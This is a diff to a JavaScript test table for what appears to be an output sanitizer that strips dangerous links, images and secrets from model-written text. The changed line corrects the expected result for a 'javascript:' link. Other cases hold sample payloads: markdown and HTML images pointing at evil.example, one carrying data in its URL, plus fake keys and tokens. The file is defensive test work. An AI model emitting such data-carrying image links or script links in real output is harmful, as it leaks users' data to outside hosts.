@@ -42,7 +42,7 @@ describe('what a model writes', () => {
     ['an address without a scheme', 'Go to www.evil.example/x now', 'Go to  now'],
     ['an image that carries data away', 'Hi ![chart](https://evil.example/i.png?d=4111) there', 'Hi chart there'],
     ['an image of the shop', '![x](https://shop.example/x.png) done', 'x done'],
-    ['a script link', 'Click [me](javascript:alert(1)) now', 'Click me) now'],
+    ['a script link', 'Click [me](javascript:alert(1)) now', 'Click me now'],
     ['an HTML image', 'A <img src="https://evil.example/x"> B', 'A  B'],
     ['a key', `The key is ${'sk-'}${'a1b2'.repeat(6)} done`, 'The key is … done'],
     ['a bearer token', 'Use Bearer abcdefghijklmnopqrstuvwxyz please', 'Use … please'],
